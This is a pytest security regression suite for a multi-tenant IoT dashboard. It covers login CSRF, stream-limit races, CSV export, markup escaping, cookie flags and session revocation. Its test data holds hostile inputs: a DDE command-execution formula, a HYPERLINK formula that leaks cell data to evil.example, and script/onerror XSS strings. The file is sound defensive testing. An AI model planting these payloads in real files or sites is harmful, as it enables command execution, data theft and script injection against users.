"""Issue 16's web attacked as a malicious tenant would: forged forms from another site, other
customers' sessions, hostile values in what the pages and the dashboard show and export, and
more live streams than a customer may hold.

Real control plane (local backend), real instances, real HTTP; the dashboard's own script runs
in Debian's Chromium. Each test here failed on the code before its fix.
"""

from __future__ import annotations

import asyncio
import json
import re
import uuid

import asyncpg
import httpx
import pytest
from browser import new_page, open_browser
from tenant_instances import (
    PASSWORD,
    Tenant,
    device_client,
    reading,
    register,
    sign_up,
)

from libs.config import ServiceSettings
from libs.servers.mosquitto import EmbeddedMosquitto
from services.instance.api.readings import KEEP_ALIVE_SECONDS
from services.instance.auth import ACCEPTED_FOR
from services.signup.progress import STREAMS_PER_CUSTOMER, may_open_stream, progress_events
from support import eventually

pytestmark = pytest.mark.slow

TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
EVIL = "http://evil.example"


@pytest.fixture(scope="module")
async def mallory(client: httpx.AsyncClient) -> Tenant:
    return await sign_up(client, "mallory@example.com")


async def test_another_site_cannot_sign_a_browser_into_or_out_of_a_dashboard(
    mallory: Tenant,
) -> None:
    """A page on another site can post a "simple" request (a form, or fetch with text/plain)
    to the dashboard's sign-in: no preflight, and the instance read the body as JSON anyway, so
    it signed the victim's browser in as the attacker (login CSRF: the victim's devices and
    data then land in the attacker's account), and its sign-out logged anyone out. On the
    local backend every instance is 127.0.0.1, where cookies are shared across ports: the
    planted session replaced the victim's own dashboard session too."""
    body = json.dumps({"email": mallory.email, "password": PASSWORD})
    async with httpx.AsyncClient(base_url=mallory.url, timeout=10) as browser:
        for origin in (EVIL, "null", "http://127.0.0.1:1"):
            forged = await browser.post(
                "/dashboard/login",
                content=body,
                headers={"Content-Type": "text/plain", "Origin": origin},
            )
            assert forged.status_code == 403, (origin, forged.status_code, forged.text)
            assert "set-cookie" not in forged.headers, origin
        # A form can send no JSON content type: without an Origin (an old browser) the
        # content type still tells a form from the page's own fetch.
        plain = await browser.post(
            "/dashboard/login", content=body, headers={"Content-Type": "text/plain"}
        )
        assert plain.status_code == 415, plain.text
        assert "set-cookie" not in plain.headers

        own = await browser.post(
            "/dashboard/login",
            content=body,
            headers={"Content-Type": "application/json", "Origin": mallory.url},
        )
        assert own.status_code == 200, own.text
        assert browser.cookies.get("iotistic_session")

        logout = await browser.post("/dashboard/logout", headers={"Origin": EVIL})
        assert logout.status_code == 403, logout.text
        assert "set-cookie" not in logout.headers
        assert (await browser.get("/dashboard/session")).status_code == 200
        mine = await browser.post("/dashboard/logout", headers={"Origin": mallory.url})
        assert mine.status_code == 200 and "max-age=0" in mine.headers["set-cookie"].lower()


async def test_concurrent_requests_cannot_open_more_progress_streams_than_the_limit(
    client: httpx.AsyncClient, settings: ServiceSettings
) -> None:
    """``GET /account/progress`` checked the customer's open streams before its stream had
    started, and a stream counted itself only once it ran: requests arriving together all
    passed the check (27 of 100 concurrent requests got a stream that reads the database twice
    a second for five minutes, against a limit of 4). Here every request has passed the
    handler's check before any stream starts, as concurrent requests do; only the limit may
    then follow the deployment, the others end at once."""
    customer_id = f"race-{uuid.uuid4().hex[:8]}"  # no account: its deployment is pending
    async with asyncpg.create_pool(
        settings.database_url, min_size=1, max_size=2, server_settings={"search_path": "signup"}
    ) as pool:
        streams = []
        for _ in range(STREAMS_PER_CUSTOMER * 5):
            assert may_open_stream(customer_id)  # the handler's check, before any stream runs
            streams.append(progress_events(pool, customer_id))
        firsts = [await anext(stream) for stream in streams]
        following = [first for first in firsts if first.event == "progress"]
        assert len(following) == STREAMS_PER_CUSTOMER, [f.event for f in firsts]
        assert all(first.event == "end" for first in firsts if first.event != "progress")
        for stream in streams:
            await stream.aclose()
        assert may_open_stream(customer_id)


async def test_a_formula_in_a_device_name_is_not_a_formula_in_the_shown_csv(
    mallory: Tenant,
) -> None:
    """The dashboard's "CSV of what is shown" wrote device names as they are: a name such as
    ``=HYPERLINK("http://evil.example/?"&A1,"open")`` or ``=cmd|' /C calc'!A0`` becomes a
    formula when the file is opened in a spreadsheet (CSV injection). Cells that begin with
    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are now written as text (a leading
    apostrophe), as OWASP advises; numbers, negative ones too, stay numbers."""
    async with open_browser() as browser:
        page = await new_page(browser)
        await page.goto(mallory.url + "/")
        await page.wait_for_selector("#login-form", state="visible")
        cells = await page.evaluate(
            """() => ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+2",
                      "@SUM(A1)", "-2+3", "\\t=1", "\\r=1", "Lobby", -4.5, 21.25,
                      "2026-01-01T00:00:00Z", 'say "hi", then go', null].map(csvCell)"""
        )
    assert cells == [
        "'=cmd|' /C calc'!A0",
        '"\'=HYPERLINK(""http://evil.example"",""x"")"',
        "'+1+2",
        "'@SUM(A1)",
        "'-2+3",
        "'\t=1",
        '"\'\r=1"',
        "Lobby",
        "-4.5",
        "21.25",
        "2026-01-01T00:00:00Z",
        '"say ""hi"", then go"',
        "",
    ], cells


async def test_hostile_company_names_are_shown_as_text_everywhere(
    client: httpx.AsyncClient,
) -> None:
    """A company name of markup and script is escaped on the account page, whatever it holds
    (held: autoescaped templates), on a page that names its charset once."""
    name = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>"
    async with httpx.AsyncClient(base_url=client.base_url, timeout=30) as browser:
        page = await browser.get("/signup")
        token = TOKEN.search(page.text)
        assert token, page.text
        signed = await browser.post(
            "/signup",
            data={
                "csrf_token": token.group(1),
                "email": f"markup-{uuid.uuid4().hex[:6]}@example.com",
                "company_name": name,
                "password": PASSWORD,
            },
        )
        assert signed.status_code == 303, signed.text
        account = await browser.get("/account")
        assert account.status_code == 200
        # One charset: the pages said "text/html; charset=utf-8; charset=utf-8".
        assert account.headers["content-type"] == "text/html; charset=utf-8"
        for raw in ("<script>alert", "<img src=x", "<svg onload"):
            assert raw not in account.text


async def test_behind_the_tls_gateway_the_dashboards_cookie_is_secure(mallory: Tenant) -> None:
    """On Kubernetes TLS ends at the Gateway (Envoy), which reaches the instance over plain
    HTTP and says ``X-Forwarded-Proto: https``. The dashboard set ``Secure`` only when its own
    connection was HTTPS, so in production its session cookie never was: a browser would send
    it over plain HTTP to the instance's host (a link to ``http://...``, a network that strips
    TLS). The control plane's pages read the gateway's header already; the dashboard now too."""
    body = {"email": mallory.email, "password": PASSWORD}
    async with httpx.AsyncClient(base_url=mallory.url, timeout=10) as browser:
        behind = await browser.post(
            "/dashboard/login", json=body, headers={"X-Forwarded-Proto": "https"}
        )
        assert behind.status_code == 200, behind.text
        flags = [f.strip().lower() for f in behind.headers["set-cookie"].split(";")]
        assert "secure" in flags and "httponly" in flags and "samesite=strict" in flags, flags
        plain = await browser.post("/dashboard/login", json=body)
        assert "secure" not in plain.headers["set-cookie"].lower()  # ./dev up: plain HTTP


async def test_a_live_stream_ends_once_its_session_is_reset_away(
    client: httpx.AsyncClient, broker: EmbeddedMosquitto, settings: ServiceSettings
) -> None:
    """A session is checked when ``/api/stream`` opens; the stream then ran for ever. Whoever
    held a session (a stolen cookie, a shared laptop) kept receiving every reading live after
    the customer reset the password or closed the account, as long as the connection stayed
    open. The stream now checks its session as often as it sends a keep-alive, and ends."""
    sid = await sign_up(client, "sid@example.com")
    device = await register(sid, "hall")
    async with sid.api.stream("GET", "/api/stream", timeout=None) as stream:
        assert stream.status_code == 200
        lines = stream.aiter_lines()
        assert await anext(lines) == ": connected"
        asked = await client.post("/api/customers/password-reset", json={"email": sid.email})
        assert asked.status_code == 202, asked.text
        token = await eventually(
            lambda: mailed_reset_token(settings, sid.email), lambda t: t is not None
        )
        reset = await client.post(
            "/api/customers/password-reset/confirm",
            json={"token": token, "password": "a brand new passphrase"},
        )
        assert reset.status_code == 200, reset.text
        # The instance's cached answer (a minute) runs out, then the next check ends it.
        deadline = ACCEPTED_FOR + 2 * KEEP_ALIVE_SECONDS + 10
        heard: list[str] = []

        async def listen() -> None:
            async for line in lines:
                heard.append(line)

        async with device_client(broker, device) as mqtt:
            await mqtt.publish(device["mqtt"]["topics"]["readings"], reading(), qos=1)
            await asyncio.wait_for(listen(), deadline)  # TimeoutError: it never ended
        assert (await sid.api.get("/api/devices")).status_code == 401


async def mailed_reset_token(settings: ServiceSettings, email: str) -> str | None:
    """The token of the newest reset link mailed to ``email`` (the log transport keeps it)."""
    conn = await asyncpg.connect(settings.database_url, server_settings={"search_path": "signup"})
    try:
        body = await conn.fetchval(
            "SELECT body FROM mail_outbox WHERE recipient = $1 AND subject LIKE '%password%' "
            "ORDER BY id DESC LIMIT 1",
            email,
        )
    finally:
        await conn.close()
    found = re.search(r"/reset\?token=([\w-]+)", body or "")
    return found.group(1) if found else None
